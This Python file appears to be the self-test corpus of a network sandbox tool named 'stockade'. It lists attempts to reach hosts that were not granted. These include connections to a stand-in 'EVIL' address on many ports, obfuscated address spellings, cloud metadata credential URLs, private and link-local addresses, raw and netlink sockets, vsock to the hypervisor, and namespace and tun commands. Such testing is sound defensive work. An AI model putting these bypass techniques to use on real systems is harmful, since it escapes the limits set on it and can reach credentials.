"""Attempts to reach a place that was not granted, whatever is said there."""

from __future__ import annotations

from stockade.selftest.corpus.attempt import Attempt, get
from stockade.selftest.hosts import ADDRESSES, API, DATABASE, EVIL, METADATA, OTHER, TCP_PORT

_EVIL = ADDRESSES[EVIL]
_PORTS = (21, 22, 23, 25, 53, 80, 110, 123, 443, 465, 853, 1080, 3128, 5432, 6667, 8080, 8443, 9050)
_SPELLINGS = {
    "decimal": "1572395074",
    "hexadecimal": "0x5db8d842",
    "octal": "0135.0270.0330.0102",
    "mixed bases": "0x5d.184.0330.66",
    "short": "93.12113986",
    "trailing dot": f"{_EVIL}.",
    "IPv4-mapped": "[::ffff:93.184.216.66]",
    "IPv4-mapped in hexadecimal": "[::ffff:5db8:d842]",
    "IPv4-compatible": "[::93.184.216.66]",
    "NAT64": "[64:ff9b::5db8:d842]",
    "6to4": "[2002:5db8:d842::1]",
    "user part": f"{API}@{_EVIL}",
}
_DIGITS = {ord(str(digit)): 0xFF10 + digit for digit in range(10)}  # IDNA makes them ASCII
_DATAGRAMS = {
    "QUIC": 443, "NTP": 123, "syslog": 514, "SNMP": 161, "TFTP": 69, "mDNS": 5353,
    "WireGuard": 51820, "DNS over QUIC": 853, "high port": 40000,
}  # fmt: skip
_ADDRESSES6 = ("2606:4700:4700::1111", "2001:4860:4860::8888", "fe80::1", "fd00::1", "ff02::1")
_METADATA = {
    "AWS": f"http://{METADATA}/latest/meta-data/?{{mark}}",
    "Azure": f"http://{METADATA}/metadata/instance?api-version=2021-02-01&m={{mark}}",
    "GCP by name": "http://metadata.google.internal/computeMetadata/v1/?{mark}",
    "ECS": "http://169.254.170.2/v2/credentials?{mark}",
    "Alibaba": "http://100.100.100.200/latest/meta-data/?{mark}",
    "AWS by IPv6": "http://[fd00:ec2::254]/latest/meta-data/?{mark}",
    "in decimal": "http://2852039166/latest/?{mark}",
    "IPv4-mapped": "http://[::ffff:169.254.169.254]/latest/?{mark}",
    "granted name": "http://metadata.example.com/latest/?{mark}",
}
_INSIDE = {
    "the host's loopback by name": ("loopback.example.com", 80),
    "a private address": ("10.0.0.5", 80),
    "a private address, 192.168": ("192.168.0.1", 80),
    "a private address, 172.16": ("172.17.0.1", 2375),
    "QEMU's user network": ("10.0.2.2", 80),
    "this network": ("0.0.0.0", 80),  # noqa: S104 - an attempt
    "shared address space": ("100.64.0.1", 80),
    "link-local": ("169.254.1.1", 80),
    "broadcast": ("255.255.255.255", 80),
    "multicast": ("224.0.0.251", 5353),
    "an invented address": ("198.18.0.1", 443),
    "the last invented address": ("198.19.255.254", 443),
}


def _tcp(category: str, name: str, host: str, port: int) -> Attempt:
    return Attempt(category, name, "talk", {"host": host, "port": port, "text": "{mark} out\r\n"})


ADDRESSES_BY_NUMBER = [
    *(_tcp("raw address", f"port {port}", _EVIL, port) for port in _PORTS),
    _tcp("raw address", "the granted host's own address", ADDRESSES[API], 443),
    _tcp("raw address", "the granted database's own address", ADDRESSES[DATABASE], TCP_PORT),
]
SPELLINGS = [
    Attempt("address spelling", name, "fetch", {"url": f"http://{host}/public/?{{mark}}"})
    for name, host in _SPELLINGS.items()
]
SPELLINGS.append(_tcp("address spelling", "full-width digits", _EVIL.translate(_DIGITS), 80))
PORTS = [
    *(_tcp("other port", f"granted host, port {port}", API, port) for port in (22, 8000, 8443, 53)),
    *(_tcp("other port", f"granted database, port {port}", DATABASE, port) for port in (22, 443)),
    _tcp("other port", "a host that is not granted", OTHER, 443),
]
DATAGRAMS = [
    *(
        Attempt("UDP", name, "datagram", {"host": _EVIL, "port": port, "text": "{mark}"})
        for name, port in _DATAGRAMS.items()
    ),
    Attempt("UDP", "granted host", "datagram", {"host": API, "port": 443, "text": "{mark}"}),
    Attempt("UDP", "IPv6", "datagram", {"host": _ADDRESSES6[0], "port": 443, "text": "{mark}"}),
]
IPV6 = [_tcp("IPv6", address, address, 443) for address in _ADDRESSES6]
CLOUD = [
    Attempt("metadata", name, "fetch", {"url": url, "headers": {"Metadata-Flavor": "Google"}})
    for name, url in _METADATA.items()
]
INSIDE = [_tcp("inside", name, host, port) for name, (host, port) in _INSIDE.items()]
WEB_INSIDE = [
    Attempt("inside", "granted web name of a private address", "fetch",
            {"url": "https://private.example.com/{mark}"}),
    Attempt("inside", "granted address by Host", "talk",
            {"host": API, "port": 443, "tls": API,
             "text": get("/public/{mark}", host="10.0.0.5")}),
]  # fmt: skip
SOCKETS = [
    Attempt("socket", "ICMP", "open_socket", {"family": 2, "kind": 3, "protocol": 1}),
    Attempt("socket", "ICMP for IPv6", "open_socket", {"family": 10, "kind": 3, "protocol": 58}),
    Attempt("socket", "ICMP datagrams", "open_socket", {"family": 2, "kind": 2, "protocol": 1}),
    Attempt("socket", "raw IP", "open_socket", {"family": 2, "kind": 3, "protocol": 255}),
    Attempt("socket", "raw TCP", "open_socket", {"family": 2, "kind": 3, "protocol": 6}),
    Attempt("socket", "packets", "open_socket", {"family": 17, "kind": 3, "protocol": 768}),
    Attempt("socket", "packets, cooked", "open_socket", {"family": 17, "kind": 2, "protocol": 768}),
    Attempt("socket", "GRE", "open_socket", {"family": 2, "kind": 3, "protocol": 47}),
    Attempt("socket", "Bluetooth", "open_socket", {"family": 31, "kind": 3, "protocol": 1}),
    Attempt("socket", "netfilter", "link", {"kind": 0x0A00, "flags": 0x600, "body": "02000000"}),
    Attempt("socket", "a new route", "link",
            {"kind": 24, "flags": 0x600, "body": "02000000fe0300010000000008000400" + "01000000"}),
    Attempt("socket", "no more local route", "link",
            {"kind": 25, "flags": 0, "body": "02000000ff0000020000000008000400" + "01000000"}),
    Attempt("socket", "a new address", "link",
            {"kind": 20, "flags": 0x600, "body": "0220000001000000" + "080002005db8d842"}),
    Attempt("socket", "loopback down", "link",
            {"kind": 16, "flags": 0, "body": "00000000010000000000000001000000"}),
    Attempt("socket", "bind to a device", "device", {"name": "eth0", "option": 25}),
    Attempt("socket", "vsock to the hypervisor", "vsock", {"cid": 0, "port": 1024}),
    Attempt("socket", "vsock to the host", "vsock", {"cid": 2, "port": 1024}),
    Attempt("socket", "a network namespace", "command", {"words": ["unshare", "--net", "true"]}),
    Attempt("socket", "a tunnel device", "command",
            {"words": ["sh", "-c", ": <>/dev/net/tun"]}),
]  # fmt: skip
ATTEMPTS = [
    *(*ADDRESSES_BY_NUMBER, *SPELLINGS, *PORTS, *DATAGRAMS, *IPV6, *CLOUD),
    *(*INSIDE, *WEB_INSIDE, *SOCKETS),
]
